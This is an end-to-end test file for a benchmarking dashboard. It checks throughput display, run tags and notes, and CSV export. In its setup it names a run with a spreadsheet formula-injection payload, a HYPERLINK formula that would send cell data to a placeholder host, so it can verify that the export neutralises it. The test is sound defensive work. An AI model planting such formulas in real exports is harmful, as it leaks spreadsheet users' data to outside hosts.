// The dashboard (real `cohort serve` in Chromium) on a finished run (issue 22): Live leads with the
// run's median, as History and `runs list` do, with the last window under it (item 6: the big number
// was the last window); History's Export CSV neutralises a run name that a spreadsheet would
// evaluate (item 14: `-2+3+HYPERLINK(...)` went out raw); History shows the tags and notes given
// with `cohort run --tag/--notes` (item 11). The run is a real tiny local run made by
// the real CLI in the dashboard's data directory. Screenshot of Live at 1280×800.
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { RunMeta } from '../../electron/common';
import { downloadText, useDashboard } from './open-dashboard';
import { ARTIFACTS, CHROMIUM, ROOT } from './serve-process';
import { tinyRun } from '../helpers/tiny';

describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => {
  let env: NodeJS.ProcessEnv;
  let runId = '';
  const cohort = (args: string[]) => spawnSync(process.execPath, [join(ROOT, 'bin', 'cohort.mjs'), ...args], { env, encoding: 'utf8', timeout: 180_000 });

  // A fresh page for each case (they stand alone: each opens History from the start).
  const ui = useDashboard({ page: 'case' });
  beforeAll(async () => {
    env = { ...ui().serve.env, NO_COLOR: '1' };
    const r = cohort(['run', '--local', ...tinyRun({ steps: 6, warmupSteps: 0 }), '--tag', 'baseline', '--notes', 'before the change', '--json']);
    expect(r.status, r.stderr).toBe(0);
    runId = (JSON.parse(r.stdout.split('\n')[0]!) as { runId: string }).runId;
    const ren = cohort(['runs', 'rename', runId, '--', '-2+3+HYPERLINK("http://x.example/?q="&A1,"o")']);
    expect(ren.status, ren.stderr).toBe(0);
  }, 240_000);

  it('Live leads with the median of a finished run, the last window below it', async () => {
    const { page, serve } = ui();
    const meta = JSON.parse(readFileSync(join(serve.dataDir, 'runs', runId, 'meta.json'), 'utf8')) as RunMeta;
    const lastWindow = (readFileSync(join(serve.dataDir, 'runs', runId, 'events.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { type: string; globalSamplesPerSec?: number }).filter((e) => e.type === 'step').at(-1)!).globalSamplesPerSec!;
    await page.goto(serve.url);
    await page.getByTestId('nav-history').click();
    await page.locator(`[data-testid=history-row][data-run-id="${runId}"]`).getByRole('button', { name: 'Open' }).click();
    await expect.poll(() => page.getByTestId('throughput-label').textContent(), { timeout: 30_000 }).toBe('Median throughput');
    expect(await page.getByTestId('throughput').textContent()).toBe(meta.medianGlobalSamplesPerSec!.toFixed(1));
    expect(await page.getByTestId('throughput').getAttribute('data-lead')).toBe('median');
    expect(await page.locator('.big .unit').textContent()).toBe(`samples/s · last window ${lastWindow.toFixed(1)}`);
    await page.screenshot({ path: join(ARTIFACTS, 'live-finished-median-1280.png') });
  }, 120_000);

  it('History shows the tags given at launch, the notes as the tooltip', async () => {
    const { page } = ui();
    await page.getByTestId('nav-history').click();
    const tags = page.locator(`[data-testid=history-row][data-run-id="${runId}"]`).getByTestId('run-tags');
    await expect.poll(() => tags.textContent(), { timeout: 30_000 }).toBe('#baseline · notes');
    expect(await tags.getAttribute('title')).toBe('before the change');
  }, 60_000);

  it("History's Export CSV writes the formula-like name with a leading quote", async () => {
    const { page } = ui();
    await page.getByTestId('nav-history').click();
    const [d] = await Promise.all([page.waitForEvent('download', { timeout: 15_000 }), page.getByTestId('export-csv').click()]);
    const text = await downloadText(d);
    expect(text).toContain(`"'-2+3+HYPERLINK(""http://x.example/?q=""&A1,""o"")"`);
    expect(text).not.toMatch(/,"?-2\+3/);
  }, 60_000);
});
